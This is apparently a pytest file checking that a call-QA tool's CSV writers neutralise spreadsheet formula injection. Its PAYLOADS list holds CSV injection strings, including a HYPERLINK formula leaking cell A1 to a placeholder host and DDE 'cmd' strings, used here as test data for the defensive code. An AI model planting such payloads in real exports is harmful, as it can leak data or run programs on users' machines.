"""Every CSV callqa writes neutralises cells a spreadsheet would run as formulas (OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import pytest
from sqlmodel import Session
from typer.testing import CliRunner

from qa.cli import app
from qa.safecsv import SafeDictWriter, SafeWriter, escape_cell
from qa.store.engine import make_engine
from qa.store.schema import Call

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_prefixed_with_a_quote(payload: str) -> None:
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-3.5, 7, "-3.5", "+44", "1e-3", "-.5", "plain text", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert escape_cell(value) == value


def test_writers_escape_every_cell_and_the_header() -> None:
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, ["name", "=x"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": "@SUM(1)", "=x": -1.5})
    SafeWriter(buffer, lineterminator="\n").writerow(["=1", 2])
    assert buffer.getvalue().splitlines() == ["name,'=x", "'@SUM(1),-1.5", "'=1,2"]


def test_kpis_csv_escapes_group_names(tmp_path: Path) -> None:
    db = str(tmp_path / "qa.db")
    with Session(make_engine(db)) as s:
        for n, team in enumerate(PAYLOADS[:3]):
            s.add(Call(external_id=f"c{n}", started_at=datetime(2026, 11, 2, 9, n),
                       team=team, talk_seconds=-0.0 + 60))  # fmt: skip
        s.commit()
    result = CliRunner().invoke(app, ["kpis", "--by", "team", "--format", "csv", "--db", db])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(r["group"] for r in rows) == sorted("'" + p for p in PAYLOADS[:3])
    assert all(float(r["aht_seconds"]) == 60.0 for r in rows)  # numbers stay numbers


@pytest.mark.slow
def test_text_tag_csv_escapes_input_and_evidence(tmp_path: Path) -> None:
    from qa.commands.text import app as text_app

    path = tmp_path / "in.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [["id", "comment"], ["=1+1", "=HYPERLINK(\"x\") I had to explain it all again"],
             ["-5", "@SUM(A1) great agent"]]
        )  # fmt: skip
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(text_app, ["tag", str(path), "--column", "comment",
                                           "--format", "csv", "--output", str(out),
                                           "--model", "rules"])  # fmt: skip
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][0] == "'=1+1" and rows[1][1].startswith("'=HYPERLINK")
    assert rows[2][0] == "-5" and rows[2][1].startswith("'@SUM")
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), row
